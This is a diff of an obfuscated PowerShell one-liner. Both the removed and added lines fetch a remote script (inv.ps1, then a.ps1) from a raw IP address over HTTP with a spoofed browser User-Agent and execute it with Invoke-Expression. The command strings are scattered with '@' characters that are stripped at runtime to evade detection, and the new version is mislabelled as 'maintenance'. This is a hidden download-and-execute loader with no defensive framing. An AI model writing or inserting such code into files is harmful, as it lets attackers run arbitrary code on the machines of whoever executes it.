@@ -1,7 +1,7 @@
-iex (('# run 9132 v0
-$u = ''http:/@/203.0.113.17:8080/''
-$w@c = New-Object System.Net.WebClient
-$wc.Headers.Ad@d(''User-Agent'',''Mozilla/5.0'')
-$s = $wc.DownloadString($u + ''inv.ps1'')
-Invoke-Exp@ression $s
+iex (('# maintenance 2577 v0
+$u = ''http://198.51.100.23:8080/''
+$wc = New-Object System.Ne@t.W@ebClient
+$wc.Headers.Add@(''User-Agent'',''Mozilla/5.0'')
+$s = $wc.Dow@nloadString($u + ''a.p@s1'')
+Invoke-Expression $s
 ' -split '@') -join '')
